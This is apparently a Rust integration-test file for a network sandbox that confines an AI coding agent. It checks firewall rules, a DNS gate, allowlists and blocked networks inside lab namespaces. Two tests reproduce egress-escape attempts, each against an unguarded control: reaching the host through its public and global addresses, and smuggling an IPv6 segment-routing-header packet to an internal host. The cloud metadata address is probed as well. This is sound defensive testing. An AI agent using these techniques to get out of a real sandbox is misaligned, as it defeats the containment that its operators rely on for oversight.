    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let config = simple_config(&lab, "config", "open", &[]);
    let fakes = failing_restore_dir(&lab, "fake-v6", &["ip6tables"]);
    let (run, ran) = boot_touch(&lab, &config, &fakes, "v6-restore-fails");
    assert_eq!(
        run.code,
        Some(71),
        "failing ip6tables-restore: {}",
        run.stderr
    );
    assert!(!ran, "the agent ran with IPv6 unguarded");
    assert!(
        run.stderr.contains("injected failure"),
        "the injected restore did not run: {}",
        run.stderr
    );
}

/// A resolver that never answers: the boot does not notice (it sends no DNS), the agent runs,
/// and its lookup of an allowlisted name gets SERVFAIL from the gate after the upstream bound
/// (`resolve_timeout_ms`), opening nothing. The time is printed, not asserted.
#[test]
fn dead_resolver_boot_completes_and_lookups_fail_with_servfail() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    lab.set_resolv_conf(&format!("nameserver {}\n", addr::DEAD_V4));
    let names: Vec<String> = (0..10).map(|i| format!("dead{i}.lab")).collect();
    let config = simple_config(&lab, "config", "open", &names);
    let (run, ran) = boot_touch(&lab, &config, &[], "dead-resolver");
    eprintln!(
        "boot with a dead resolver and 10 names took {:?}",
        run.elapsed
    );
    assert_eq!(
        run.code,
        Some(0),
        "boot with a dead resolver: {}",
        run.stderr
    );
    assert!(ran, "the agent did not run");
    let lookup = format!("dns dead0.lab --server {} --timeout-ms 5000", addr::DEAD_V4);
    let run = lab.sandbox(&config, &[], &["batch", &lookup]);
    let line = run.check(&lookup).cloned().unwrap_or_default();
    assert_eq!(
        line["rcode"], 2,
        "want SERVFAIL from the gate: {line}\n{}",
        run.stderr
    );
}

fn rules(lab: &Lab, cmd: &str) -> String {
    let out = lab.exec(&lab.agent, &[cmd]);
    assert!(
        out.status.success(),
        "{cmd} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| !l.starts_with('#'))
        .map(|l| {
            // Chain counters ([packets:bytes]) change between runs.
            match l.find(" [") {
                Some(i) if l.starts_with(':') => l[..i].to_string(),
                _ => l.to_string(),
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// Booting twice leaves identical rules (no duplicate jumps) and never touches the nat table:
/// a Docker-DNS-style DNAT rule placed there beforehand survives.
#[test]
fn second_boot_leaves_identical_rules_and_keeps_nat() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let dnat = [
        "iptables",
        "-t",
        "nat",
        "-A",
        "OUTPUT",
        "-d",
        "127.0.0.11",
        "-p",
        "udp",
        "--dport",
        "53",
        "-j",
        "DNAT",
        "--to-destination",
        "127.0.0.11:40000",
    ];
    let out = lab.exec(&lab.agent, &dnat);
    assert!(
        out.status.success(),
        "failed to add the nat rule: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let config = simple_config(&lab, "config", "open", &["public.lab".into()]);
    let (run, ran) = boot_touch(&lab, &config, &[], "first");
    assert!(
        run.code == Some(0) && ran,
        "first boot failed: {}",
        run.stderr
    );
    let (v4, v6) = (rules(&lab, "iptables-save"), rules(&lab, "ip6tables-save"));
    assert!(
        v4.contains("--to-destination 127.0.0.11:40000"),
        "the nat rule is gone:\n{v4}"
    );
    assert!(
        v4.contains("REJECT") && v6.contains("REJECT"),
        "no reject rules installed:\n{v4}\n{v6}"
    );
    let (run, ran) = boot_touch(&lab, &config, &[], "second");
    assert!(
        run.code == Some(0) && ran,
        "second boot failed: {}",
        run.stderr
    );
    assert_eq!(
        v4,
        rules(&lab, "iptables-save"),
        "IPv4 rules changed on the second boot"
    );
    assert_eq!(
        v6,
        rules(&lab, "ip6tables-save"),
        "IPv6 rules changed on the second boot"
    );
}

/// Inbound connections to a server the agent runs (OpenCode's port) are answered: replies on
/// established connections pass, over IPv4 and IPv6, in allowlist mode too.
#[test]
fn the_agents_server_answers_inbound_connections() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let config = simple_config(&lab, "config", "allowlist", &[]);
    let mut cmd = lab.agent_command(&[]);
    cmd.arg(sandbox_init())
        .arg("--config-dir")
        .arg(&config)
        .arg("--")
        .arg(&lab.probe)
        .args(["serve", "4096"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    let mut server = cmd
        .spawn()
        .expect("failed to start sandbox-init with probe serve");
    let probe = lab.probe.display().to_string();
    let ask = |target: &str| -> Value {
        let out = lab.exec(
            &lab.gw,
            &[
                &probe,
                "http",
                target,
                "/global/health",
                "--timeout-ms",
                "1000",
            ],
        );
        serde_json::from_slice(&out.stdout).unwrap_or(Value::Null)
    };
    let v4 = format!("{}:4096", addr::AGENT_V4);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let mut first = ask(&v4);
    while first["status"] != 200 && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(50));
        first = ask(&v4);
    }
    let v6 = ask(&format!("[{}]:4096", addr::AGENT_V6));
    let _ = server.kill();
    let _ = server.wait();
    assert_eq!(
        first["status"], 200,
        "no HTTP answer over IPv4 from the agent's server: {first}"
    );
    assert!(
        first["body"]
            .as_str()
            .is_some_and(|b| b.contains("\"healthy\":true")),
        "{first}"
    );
    assert_eq!(
        v6["status"], 200,
        "no HTTP answer over IPv6 from the agent's server: {v6}"
    );
}

/// A resolver in link-local space (the AWS VPC resolver is 169.254.169.253): DNS to it works and
/// resolves the allowlist, but only port 53 of it opens, and the metadata address next to it
/// stays refused. The previous resolver, no longer configured, is refused.
#[test]
fn link_local_resolver_opens_port_53_only() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    lab.set_resolv_conf(&format!("nameserver {}\n", addr::DNS_LL));
    let config = simple_config(&lab, "config", "allowlist", &["public.lab".into()]);
    // The lookup first (through the gate, which asks the link-local resolver), then the rest.
    let checks = [
        (
            format!("dns public.lab --server {} {UDP_T}", addr::DNS_LL),
            "reply",
        ),
        ("then".to_owned(), ""),
        (format!("tcp 198.51.100.10:80 {TCP_T}"), "connected"),
        (format!("tcp {}:80 {TCP_T}", addr::DNS_LL), "refused"),
        (format!("udp {}:9999 {UDP_T}", addr::DNS_LL), "blocked"),
        (format!("tcp 169.254.169.254:80 {TCP_T}"), "refused"),
        // DNS to the old resolver's address is the gate's too: answered, never sent there.
        (
            format!("dns public.lab --server {} {UDP_T}", addr::DNS_V4),
            "reply",
        ),
    ];
    let mut args = vec!["batch"];
    args.extend(checks.iter().map(|(c, _)| c.as_str()));
    let run = lab.sandbox(&config, &[], &args);
    assert_eq!(run.code, Some(0), "boot failed: {}", run.stderr);
    let checks: Vec<_> = checks.iter().filter(|(c, _)| c != "then").collect();
    let got: Vec<String> = checks
        .iter()
        .map(|(c, _)| {
            run.check(c)
                .map(|l| result(l).to_string())
                .unwrap_or_default()
        })
        .collect();
    let want: Vec<&str> = checks.iter().map(|(_, w)| *w).collect();
    assert_eq!(got, want, "checks: {checks:?}\nstderr: {}", run.stderr);
}

/// A config dir: `egress`, `allowed_hosts` and `blocked_networks` as given.
fn policy_with(
    lab: &Lab,
    name: &str,
    egress: &str,
    hosts: &[&str],
    blocked: &[&str],
) -> std::path::PathBuf {
    let home = lab.dir.subdir("home", 0o755);
    let list = |items: &[&str]| {
        items
            .iter()
            .map(|i| format!("{i:?}"))
            .collect::<Vec<_>>()
            .join(", ")
    };
    let policy = format!(
        "egress = \"{egress}\"\nallowed_hosts = [{}]\nblocked_networks = [{}]\n\n[agent]\nuid = 1000\ngid = 1000\nhome = \"{}\"\n",
        list(hosts),
        list(blocked),
        home.display()
    );
    config_dir(&lab.dir, name, &[("policy.toml", &policy)])
}

/// Runs `checks` (probe batch lines) and returns, per check, its result (or "missing").
fn results(run: &Run, checks: &[String]) -> Vec<String> {
    checks
        .iter()
        .map(|c| run.check(c).map_or("missing", result).to_owned())
        .collect()
}

/// What arrived at the host's extra addresses (`host_addresses`): each TCP connection to a
/// wildcard (`[::]`) listener as `tcp TO`, each datagram to their UDP sinks as `udp LOCAL`.
fn host_arrivals(lab: &Lab) -> Vec<String> {
    use addr::*;
    let wildcard: Vec<String> = GW_WILDCARD_PORTS
        .iter()
        .map(|p| format!("[::]:{p}"))
        .collect();
    let extra = [
        HOST_PUBLIC_V4,
        HOST_GLOBAL_V6,
        LINK_GW_V4,
        LINK_SIBLING_V4,
        LINK_GW_V6,
        LINK_SIBLING_V6,
    ];
    let text = |e: &Value, k: &str| e.get(k).and_then(Value::as_str).unwrap_or("").to_owned();
    lab.sink_events()
        .iter()
        .filter_map(|e| match text(e, "event").as_str() {
            "tcp" if wildcard.contains(&text(e, "local")) => Some(format!("tcp {}", text(e, "to"))),
            "udp"
                if extra
                    .iter()
                    .any(|a| strip_scope(&text(e, "local")).contains(a)) =>
            {
                Some(format!("udp {}", text(e, "local")))
            }
            _ => None,
        })
        .collect()
}

/// The host on its other addresses: a public IPv4 and a global IPv6 address elsewhere on the
/// host (walled off by `blocked_networks`, which the launcher fills with them), a global IPv6
/// gateway and a public IPv4 and a global IPv6 prefix on the agent's link (walled off from the
/// routing tables), all served by a listener on `[::]` in the gateway. None is in a blocked
/// range: before this, the agent connected to every one of them (the control below shows the
/// lab does). Refused in both egress modes; an allowlisted port of the gateway stays open.
#[test]
fn attack_host_on_its_public_and_global_addresses_is_refused() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    use addr::*;
    let lab = Lab::with(LabOptions {
        host_addresses: true,
        ..LabOptions::default()
    });
    let [port, allowed_port] = [GW_WILDCARD_PORTS[0], GW_WILDCARD_PORTS[1]];
    let attacks: Vec<String> = [
        HOST_PUBLIC_V4,
        HOST_GLOBAL_V6,
        LINK_GW_V6,
        LINK_SIBLING_V6,
        LINK_GW_V4,
        LINK_SIBLING_V4,
    ]
    .iter()
    .flat_map(|a| {
        [
            format!("tcp {} {TCP_T}", sock(a, port)),
            format!("udp {} {UDP_T}", sock(a, 9999)),
        ]
    })
    .collect();
    let opened = [
        format!("tcp {} {TCP_T}", sock(LINK_GW_V6, allowed_port)),
        format!("tcp 198.51.100.10:80 {TCP_T}"),
        format!("tcp [2001:db8::10]:80 {TCP_T}"),
    ];
    let all: Vec<String> = attacks.iter().chain(&opened).cloned().collect();
    let mut batch = vec!["batch"];
    batch.extend(all.iter().map(String::as_str));

    // Control, no firewall: every attack reaches the host.
    let control = lab.probe_unguarded(&batch);
    let want: Vec<&str> = all
        .iter()
        .map(|c| {
            if c.starts_with("tcp") {
                "connected"
            } else {
                "reply"
            }
        })
        .collect();
    assert_eq!(
        results(&control, &all),
        want,
        "the lab is miswired: {all:?}\n{}",
        control.stdout
    );
    let before = host_arrivals(&lab).len();
    assert!(before >= attacks.len(), "the host's listeners log nothing");

    // Sandboxed, the agent looks public.lab up first (through the gate), as any client does.
    let lookups = [
        format!("dns public.lab --server {} --type A {UDP_T}", addr::DNS_V4),
        format!(
            "dns public.lab --server {} --type AAAA {UDP_T}",
            addr::DNS_V4
        ),
    ];
    let mut guarded: Vec<&str> = vec!["batch", &lookups[0], &lookups[1], "then"];
    guarded.extend(all.iter().map(String::as_str));
    for egress in ["open", "allowlist"] {
        let config = policy_with(
            &lab,
            &format!("config-{egress}"),
            egress,
            &["public.lab", &sock(LINK_GW_V6, allowed_port)],
            // What the launcher writes: the host's global addresses.
            &[HOST_PUBLIC_V4, HOST_GLOBAL_V6],
        );
        let run = lab.sandbox(&config, &[], &guarded);
        assert_eq!(run.code, Some(0), "boot failed: {}", run.stderr);
        let mut want: Vec<&str> = attacks
            .iter()
            .map(|c| {
                if c.starts_with("tcp") {
                    "refused"
                } else {
                    "blocked"
                }
            })
            .collect();
        want.extend(["connected"; 3]);
        assert_eq!(
            results(&run, &all),
            want,
            "egress = {egress}: {all:?}\nstdout:\n{}\nstderr:\n{}",
            run.stdout,
            run.stderr
        );
        // Nothing of the attacks arrived; only the allowlisted port did.
        let arrived: Vec<String> = host_arrivals(&lab)
            .split_off(before)
            .into_iter()
            .filter(|a| *a != format!("tcp {}", sock(LINK_GW_V6, allowed_port)))
            .collect();
        assert!(arrived.is_empty(), "egress = {egress}: arrived {arrived:?}");
    }
}

/// `blocked_networks` walls off a public host in open egress (its neighbours stay reachable),
/// and an allowlist entry still opens one port of it.
#[test]
fn blocked_networks_refuse_a_public_host_unless_allowlisted() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let config = policy_with(
        &lab,
        "config",
        "open",
        &["203.0.113.20:443"],
        &["203.0.113.20", "2001:db8:1::20/128"],
    );
    let checks: Vec<String> = [
        ("tcp 203.0.113.20:80", "refused"),
        ("udp 203.0.113.20:9999", "blocked"),
        ("tcp 203.0.113.20:443", "connected"),
        ("tcp [2001:db8:1::20]:80", "refused"),
        ("tcp [64:ff9b::cb00:7114]:80", "refused"),
        ("tcp 203.0.113.10:80", "connected"),
        ("tcp [2001:db8::10]:80", "connected"),
    ]
    .iter()
    .map(|(c, _)| format!("{c} {TCP_T}"))
    .collect();
    let want = [
        "refused",
        "blocked",
        "connected",
        "refused",
        "refused",
        "connected",
        "connected",
    ];
    let mut batch = vec!["batch"];
    batch.extend(checks.iter().map(String::as_str));
    let run = lab.sandbox(&config, &[], &batch);
    assert_eq!(run.code, Some(0), "boot failed: {}", run.stderr);
    assert_eq!(
        results(&run, &checks),
        want,
        "{checks:?}\nstderr:\n{}",
        run.stderr
    );
    assert!(
        lab.wait_for_sink("203.0.113.20:443"),
        "the allowed flow never arrived"
    );
    let arrived: Vec<String> = lab
        .sink_events()
        .iter()
        .filter_map(event_key)
        .filter(|k| {
            k.contains("203.0.113.20:80")
                || k.contains("203.0.113.20:9999")
                || k.contains("2001:db8:1::20")
        })
        .collect();
    assert!(arrived.is_empty(), "blocked flows arrived: {arrived:?}");
}

/// An IPv6 segment routing header (type 4, set with IPV6_RTHDR, no privilege needed) makes the
/// packet's destination an allowed public host and names an internal host as the final
/// segment; with segment routing enabled there, the public host forwards it. `ip6tables -d`
/// only sees the first: without the routing-header rule the datagram reaches the internal
/// host (the control shows it does). Both egress modes, both backends: nothing arrives at
/// either segment.
#[test]
fn attack_ipv6_segment_routing_header_to_an_internal_host_arrives_nowhere() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::with(LabOptions {
        seg6: true,
        ..LabOptions::default()
    });
    let first = "2001:db8::10"; // public.lab: allowed in both modes
    let check = format!("srh-udp [fd00::1]:9999 --via {first} {UDP_T}");
    // The first segment without a routing header, on another port than the attack's.
    let plain = format!("udp [{first}]:443 {UDP_T}");
    let targets = ["udp/[fd00::1]:9999", "udp/[2001:db8::10]:9999"];
    let arrived = |lab: &Lab| -> Vec<String> {
        lab.sink_events()
            .iter()
            .filter_map(event_key)
            .filter(|k| targets.contains(&k.as_str()))
            .collect()
    };

    // Control: no firewall, the datagram arrives at the internal host and is echoed.
    let control = lab.probe_unguarded(&["batch", &check]);
    assert_eq!(
        control.check(&check).map(result),
        Some("reply"),
        "control: {}",
        control.stdout
    );
    assert!(
        lab.wait_for_sink("[fd00::1]:9999"),
        "control: nothing arrived at fd00::1"
    );
    let before = arrived(&lab).len();

    let dir = jailoc_tests::TempDir::new("jailoc-srh-");
    // The legacy run: the nft programs (and the plain names) fail, so the boot falls back.
    let no_nft = jailoc_tests::lab::failing_tools(
        &dir,
        &["iptables-nft", "ip6tables-nft", "iptables", "ip6tables"],
        &["-save", "-restore"],
    );
    for (egress, fakes, backend) in [
        ("open", vec![], "nft backend"),
        ("allowlist", vec![], "nft backend"),
        ("open", refs(&no_nft), "legacy backend"),
    ] {
        let config = simple_config(
            &lab,
            &format!("config-{egress}"),
            egress,
            &["public.lab".into()],
        );
        let lookup = format!(
            "dns public.lab --server {} --type AAAA {UDP_T}",
            addr::DNS_V4
        );
        let run = lab.sandbox_replacing(
            &fakes,
            &config,
            &[],
            &["batch", &lookup, "then", &check, &plain],
        );
        assert_eq!(run.code, Some(0), "boot failed: {}", run.stderr);
        assert!(run.stderr.contains(backend), "{}", run.stderr);
        let what = format!("{egress}, {backend}: {}\n{}", run.stdout, run.stderr);
        assert_eq!(run.check(&check).map(result), Some("blocked"), "{what}");
        // The first segment itself stays reachable without a routing header.
        assert_eq!(run.check(&plain).map(result), Some("reply"), "{what}");
        // At neither segment's listener.
        let now = arrived(&lab);
        assert_eq!(now.len(), before, "{what}\narrived: {:?}", &now[before..]);
    }
}
